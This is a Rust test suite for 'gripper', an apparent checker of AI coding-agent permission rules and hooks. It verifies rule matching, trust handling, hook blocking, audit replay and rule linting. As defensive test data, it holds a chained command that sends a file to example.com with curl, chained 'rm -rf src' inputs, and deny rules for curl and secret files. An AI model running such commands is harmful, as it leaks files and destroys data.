//! A project with the settings that people have today, brought along as it is: its rules and hooks decide,
//! say where they stand, and can be tested and replayed.
#![allow(
    clippy::expect_used,
    clippy::panic,
    clippy::unwrap_used,
    reason = "a failed expectation is how tests fail"
)]

use std::fs;

use gripper_testkit::{Binary, Ran, Workspace};
use serde_json::{Value, json};

const FILE: &str = ".claude/settings.json";
/// What a reason says of a rule's place.
const PLACE: &str = "(project settings, [root]/project/.claude/settings.json:";

const SETTINGS: &str = r#"{
  // What everybody on the team needs.
  "permissions": {
    "allow": [
      "Bash(npm run test:*)",
      "Bash(npm run lint)", // no arguments
      "Bash(git commit *)",
      "Read(~/notes/**)",
      "Edit(/src/**)",
      "WebFetch(domain:docs.example.com)",
      "mcp__tracker__list_issues",
    ],
    "ask": ["Bash(git push:*)", "WebFetch(domain:*.internal.example.com)", "TodoWrite"],
    "deny": [
      "Read(./.env)",
      "Read(secret/**)",
      "Bash(curl *)",
      "mcp__tracker__delete_issue"
    ]
  },
  "hooks": {
    "PreToolUse": [
      {"matcher": "Read", "hooks": [
        {"type": "command", "command": "grep -q frozen.txt && { echo 'frozen.txt is off limits' >&2; exit 2; } || true"}
      ]},
      {"matcher": "Read", "hooks": [{"type": "command", "command": ".claude/redirect.sh"}]}
    ],
    "PostToolUse": [
      {"matcher": "Read", "hooks": [{"type": "command", "command": "echo '{\"hookSpecificOutput\": {\"hookEventName\": \"PostToolUse\", \"additionalContext\": \"mind the style guide\"}}'"}]}
    ]
  }
}
"#;

/// Reads of `old.txt` become reads of `new.txt`.
const REDIRECT: &str = r#"if grep -q old.txt; then
  echo '{"hookSpecificOutput": {"hookEventName": "PreToolUse", "updatedInput": {"file_path": "new.txt"}}}'
fi"#;

fn gripper(workspace: &Workspace, args: &[&str]) -> Ran {
    Binary::new(env!("CARGO_BIN_EXE_gripper"), workspace).args(args).run()
}

/// The project, and a home with a folder of notes.
fn project() -> Workspace {
    let workspace = Workspace::new();
    workspace.write(FILE, SETTINGS);
    workspace.write(".claude/redirect.sh", format!("#!/bin/sh\n{REDIRECT}\n"));
    let script = workspace.path(".claude/redirect.sh");
    fs::set_permissions(script, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    for name in ["a.txt", "frozen.txt", "new.txt", "secret/plan.txt"] {
        workspace.write(name, format!("this is {name}\n"));
    }
    fs::create_dir(workspace.home().join("notes")).unwrap();
    fs::write(workspace.home().join("notes/a.md"), "a note\n").unwrap();
    workspace
}

/// The line of the settings file that holds `text`.
fn line(text: &str) -> usize {
    SETTINGS.lines().position(|line| line.contains(text)).expect("it is in the file") + 1
}

fn run(workspace: &Workspace, calls: &[(&str, Value)], flags: &[&str]) -> Ran {
    let calls: String =
        calls.iter().map(|(name, input)| format!("{}\n", json!({"name": name, "input": input}))).collect();
    workspace.write("calls.jsonl", calls);
    gripper(workspace, &[&["run", "calls.jsonl"], flags].concat())
}

/// What `explain` answers for a tool and its input, by the rule at its line or by other words.
#[track_caller]
fn explains(workspace: &Workspace, tool: &str, input: &str, code: i32, list: &str, rule: &str) {
    let ran = gripper(workspace, &["explain", "--tool", tool, input]);
    let reason = match list {
        "" => rule.to_owned(),
        _ => format!("{list} rule {rule} {PLACE}{})", line(&format!("\"{rule}\""))),
    };
    assert_eq!(ran.code, code, "{tool} {input}\n{}", ran.transcript());
    assert!(ran.stdout.lines().next().unwrap().contains(&reason), "{reason}\n{}", ran.transcript());
}

#[test]
fn rules_decide_and_say_where_they_stand() {
    let workspace = project();
    assert_eq!(gripper(&workspace, &["trust"]).code, 0);
    for (tool, input, code, list, rule) in [
        ("Bash", "npm run test -- --watch", 0, "allow", "Bash(npm run test:*)"),
        ("Bash", "npm run lint", 0, "allow", "Bash(npm run lint)"),
        ("Bash", "npm run lint --fix", 1, "", "no rule allows it"),
        ("Bash", "git commit -m 'one && two'", 0, "allow", "Bash(git commit *)"),
        ("Bash", "git commit -m x && git push", 1, "ask", "Bash(git push:*)"),
        ("Bash", "git -C . push --force", 1, "ask", "Bash(git push:*)"),
        ("Bash", "npm run test; /usr/bin/curl -d @a.txt example.com", 2, "deny", "Bash(curl *)"),
        ("Bash", "cat secret/plan.txt", 2, "deny", "Read(secret/**)"),
        ("Bash", "cat a.txt", 0, "", "only reads, inside the working directories"),
        ("Edit", "src/main.rs", 0, "allow", "Edit(/src/**)"),
        ("Write", "src/new/deep.rs", 0, "allow", "Edit(/src/**)"),
        ("Edit", "a.txt", 1, "", "no rule allows Edit"),
        ("Edit", "secret/plan.txt", 2, "deny", "Read(secret/**)"),
        ("Read", ".env", 2, "deny", "Read(./.env)"),
        ("Read", "/etc/hostname", 1, "", "outside the working directories"),
        ("WebFetch", "https://docs.example.com/a", 0, "allow", "WebFetch(domain:docs.example.com)"),
        ("WebFetch", "https://a.internal.example.com", 1, "ask", "WebFetch(domain:*.internal.example.com)"),
        ("WebFetch", "https://example.org", 1, "", "no rule allows WebFetch"),
        ("mcp__tracker__list_issues", "{}", 0, "allow", "mcp__tracker__list_issues"),
        ("mcp__tracker__delete_issue", "{}", 2, "deny", "mcp__tracker__delete_issue"),
        ("mcp__tracker__close_issue", "{}", 1, "", "no rule allows"),
    ] {
        explains(&workspace, tool, input, code, list, rule);
    }
}

#[test]
fn a_folder_that_is_not_trusted_only_makes_things_stricter() {
    let workspace = project();
    for (tool, input, code, list, rule) in [
        ("Bash", "npm run lint", 1, "", "no rule allows it"),
        ("Edit", "src/main.rs", 1, "", "no rule allows Edit"),
        ("mcp__tracker__list_issues", "{}", 1, "", "no rule allows"),
        ("Bash", "git push", 1, "ask", "Bash(git push:*)"),
        ("Bash", "curl example.com", 2, "deny", "Bash(curl *)"),
        ("Read", "secret/plan.txt", 2, "deny", "Read(secret/**)"),
    ] {
        explains(&workspace, tool, input, code, list, rule);
    }
    let listed = gripper(&workspace, &["rules", "list"]);
    assert_eq!(
        listed.stdout.matches("does not count: the folder is not trusted").count(),
        7,
        "{}",
        listed.stdout
    );
    // Hooks are programs of the project: they do not run either.
    let ran = run(&workspace, &[("Read", json!({"file_path": "frozen.txt"}))], &[]);
    assert_eq!(ran.results()[0]["error_code"], Value::Null, "{}", ran.transcript());
}

#[test]
fn calls_meet_the_hooks_and_the_rules() {
    let workspace = project();
    assert_eq!(gripper(&workspace, &["trust"]).code, 0);
    let note = workspace.home().join("notes/a.md");
    let ran = run(
        &workspace,
        &[
            ("Read", json!({"file_path": "a.txt"})),
            ("Read", json!({"file_path": "frozen.txt"})),
            ("Read", json!({"file_path": "old.txt"})),
            ("Read", json!({"file_path": "secret/plan.txt"})),
            ("Read", json!({ "file_path": note })),
            ("TodoWrite", json!({"todos": []})),
            ("Sleep", json!({"seconds": 0})),
        ],
        &[],
    );
    let results = ran.results();
    let text = |at: usize| results[at]["content"].to_string();
    assert!(text(0).contains("this is a.txt") && text(0).contains("mind the style guide"), "{}", text(0));
    assert_eq!(results[1]["error_code"], "hook_blocked");
    assert!(text(1).contains("frozen.txt is off limits"), "{}", text(1));
    assert!(text(2).contains("this is new.txt"), "the input was rewritten: {}", text(2));
    assert_eq!(results[3]["error_code"], "denied");
    let place = |rule: &str| format!("rule {rule} {PLACE}{})", line(&format!("\"{rule}\"")));
    assert!(text(3).contains(&place("Read(secret/**)")), "{}", text(3));
    assert!(text(4).contains("a note"), "{}", text(4));
    assert_eq!(results[5]["error_code"], "denied", "nobody can be asked here");
    assert!(text(5).contains(&place("TodoWrite")), "{}", text(5));
    assert_eq!(results[6]["is_error"], false, "{}", text(6));
    let decided = |at: usize| {
        let id = results[at]["call_id"].clone();
        let events = ran.json_lines();
        events.into_iter().find(|event| event["event"] == "decision" && event["call_id"] == id).unwrap()
    };
    assert_eq!(decided(4)["reason"], format!("allow {}", place("Read(~/notes/**)")));
    assert_eq!(decided(6)["step"], 8);
}

#[test]
fn decisions_of_the_audit_log_come_out_the_same_again() {
    let workspace = project();
    assert_eq!(gripper(&workspace, &["trust"]).code, 0);
    let calls = [
        ("Read", json!({"file_path": "a.txt"})),
        ("Read", json!({"file_path": "secret/plan.txt"})),
        ("Read", json!({"file_path": "/etc/hostname"})),
        ("Read", json!({"file_path": workspace.home().join("notes/a.md")})),
        ("Read", json!({"file_path": ".npmrc"})),
        ("TodoWrite", json!({"todos": []})),
        ("Sleep", json!({"seconds": 0})),
    ];
    for flags in [&[][..], &["--mode", "plan"], &["--mode", "dontAsk", "--deny", "Sleep(seconds:0)"]] {
        let log = workspace.home().join(".gripper/audit/audit.jsonl");
        let before = fs::read_to_string(&log).unwrap_or_default().lines().count();
        assert_eq!(run(&workspace, &calls, flags).code, 0);
        let text = fs::read_to_string(&log).unwrap();
        let lines = text.lines().skip(before).map(|line| serde_json::from_str::<Value>(line).unwrap());
        let decided: Vec<Value> =
            lines.filter(|line| line["kind"] == "decision" && line["by"] != "approver").collect();
        assert_eq!(decided.len(), calls.len(), "{text}");
        for line in decided {
            let (tool, input) = (line["tool"].as_str().unwrap(), line["input"].to_string());
            let args = [&["explain", "--json", "--tool", tool, &input][..], flags].concat();
            let again = Binary::new(env!("CARGO_BIN_EXE_gripper"), &workspace).args(args).into_command();
            let again: Value = serde_json::from_slice(&{ again }.output().unwrap().stdout).unwrap();
            for key in ["behavior", "reason", "by", "step", "suggestions"] {
                assert_eq!(again[key], line[key], "{key} of {tool} {input} with {flags:?}");
            }
        }
    }
}

#[test]
fn examples_are_tested_and_a_change_that_breaks_one_is_found() {
    let workspace = project();
    let settings = |rule: &str| {
        let text = json!({"permissions": {"allow": ["Read(/docs/**)", {"rule": rule, "examples": {
            "match": ["npm test", "npm test -- --watch"],
            "not_match": ["npm testing", "npm test && rm -rf src"]}}]}});
        workspace.write("ci/permissions.json", format!("{text:#}"));
        gripper(&workspace, &["rules", "test", "ci/permissions.json"])
    };
    let good = settings("Bash(npm test *)");
    assert_eq!((good.code, &*good.stdout), (0, "4 examples, 0 failures\n"), "{}", good.transcript());
    let reads = json!({"permissions": {"allow": [{"rule": "Bash(ls *)", "examples": {
        "match": ["ls -la", "ls src | wc -l"], "not_match": ["cat a.txt", "ls; rm -rf src"]}}]}});
    workspace.write("ci/reads.json", reads.to_string());
    let good = gripper(&workspace, &["rules", "test", "ci/reads.json"]);
    assert_eq!((good.code, &*good.stdout), (0, "4 examples, 0 failures\n"), "{}", good.transcript());
    let bad = settings("Bash(npm test)");
    assert_eq!(bad.code, 1, "{}", bad.transcript());
    insta::assert_snapshot!(bad.transcript());
}

#[test]
fn what_cannot_be_read_fails_the_test_and_what_means_nothing_fails_the_lint() {
    let workspace = Workspace::new();
    workspace.write("broken.json", "{\"permissions\": {\"allow\": [}}");
    workspace.write("bad.json", "{\"permissions\": {\"deny\": [\n\"Bash(rm\"]}}");
    workspace.write("plain.json", "{\"permissions\": {\"deny\": [\"Bash(rm *)\"]}}");
    for (file, code, words) in [
        ("broken.json", 1, "broken.json:1: error: column 28: "),
        ("bad.json", 1, "bad.json:2: error: this deny rule does not count"),
        ("none.json", 1, "none.json: error: there is no such file"),
        ("plain.json", 0, "warning: no rule carries examples"),
    ] {
        let ran = gripper(&workspace, &["rules", "test", file]);
        assert_eq!(ran.code, code, "{}", ran.transcript());
        assert!(ran.transcript().contains(words), "{words}\n{}", ran.transcript());
    }
    let json = gripper(&workspace, &["rules", "test", "--json", "bad.json", "plain.json"]).json_lines();
    assert_eq!((&json[0]["examples"], &json[0]["failures"][0]["source"]["line"]), (&json!(0), &json!(2)));
    workspace.write(FILE, "{\"permissions\": {\n\"deny\": [\"Write(a.txt)\"],\n\"ask\": [\"Raed(x:1)\"]}}");
    let lint = |more: &[&str]| gripper(&workspace, &[&["rules", "lint"], more].concat());
    let found = lint(&[]);
    assert_eq!(found.code, 1, "{}", found.transcript());
    for words in [
        "settings.json:2: warning: Write(a.txt) is taken as Edit(a.txt)",
        "settings.json:3: error: there is no tool Raed",
    ] {
        assert!(found.stdout.contains(words), "{words}\n{}", found.transcript());
    }
    assert_eq!(lint(&["--json"]).json_lines()[0]["findings"].as_array().unwrap().len(), 2);
    workspace.write(FILE, "{\"permissions\": {\"deny\": [\"Write(a.txt)\"]}}");
    assert_eq!((lint(&[]).code, lint(&["--strict"]).code), (0, 1));
    let listed = gripper(&workspace, &["rules", "list", "--json", "--allow", "*"]).json_lines();
    assert_eq!(listed[0]["rules"][0]["source"]["line"], 1);
    assert_eq!(listed[0]["rules"][1]["set_aside"], "it grants nothing (gripper rules lint says why)");
}
